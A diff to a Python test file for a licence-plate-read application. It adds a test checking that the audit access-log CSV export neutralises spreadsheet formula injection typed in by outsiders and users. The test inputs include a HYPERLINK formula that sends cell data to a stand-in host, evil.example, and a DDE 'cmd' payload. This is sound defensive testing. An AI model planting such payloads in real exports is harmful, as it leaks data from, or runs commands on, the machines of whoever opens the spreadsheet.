@@ -11,6 +11,7 @@ import logging
 import socket
 import threading
 import time
+import zipfile
 from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 from typing import Any
@@ -32,7 +33,7 @@ from plateguard.main import create_app
 from plateguard.reads.schemas import VehicleAttributes
 from plateguard.spreadsheet import safe_cell
 from plateguard.web.hardening import BodyLimit, uvicorn_log_config
-from tests.conftest import TEST_ACTOR, AppFactory, MakeUser, Trained, prepared_data_dir, sign_in
+from tests.conftest import TEST_ACTOR, AppFactory, MakeUser, Trained, post_login, prepared_data_dir, sign_in
 
 WHY = {"purpose": "Criminal investigation", "case_number": "24-001234"}
 
@@ -132,6 +133,31 @@ def test_csv_exports_neutralise_formulas(
     assert row["vehicle_color"] == "'=cmd|' /C calc'!A0"
     assert row["vehicle_type"] == "'@SUM(1+1)"
     assert row["camera"] == '\'=HYPERLINK("x")'
+
+
+def test_the_access_log_export_neutralises_formulas_typed_by_outsiders_and_users(
+    client: TestClient, trained: Trained
+) -> None:
+    """An outsider's username at the sign-in form and a user's stated detail both reach the access log,
+    and from there the Auditor's spreadsheet."""
+    outsider = '=hyperlink("http://evil.example/?"&d2,"open")'
+    refused = post_login(client, outsider, "anything at all")
+    assert refused.status_code == 401
+    trained("priya", Role.INVESTIGATOR)
+    sign_in(client, "priya")
+    detail = "=cmd|' /C calc'!A0"
+    searched = client.get("/reads/search", params={"plate": "7ABC123", "detail": detail, **WHY})
+    assert searched.status_code == 200, searched.text
+    trained("sgt.brooks", Role.AUDITOR)
+    sign_in(client, "sgt.brooks")
+    exported = client.get("/audit/access-log/export")
+    assert exported.status_code == 200, exported.text
+    table = zipfile.ZipFile(io.BytesIO(exported.content)).read("access-log.csv").decode()
+    rows = list(csv.DictReader(io.StringIO(table)))
+    assert "'" + outsider in [row["username"] for row in rows]
+    assert "'" + detail in [row["purpose_detail"] for row in rows]
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
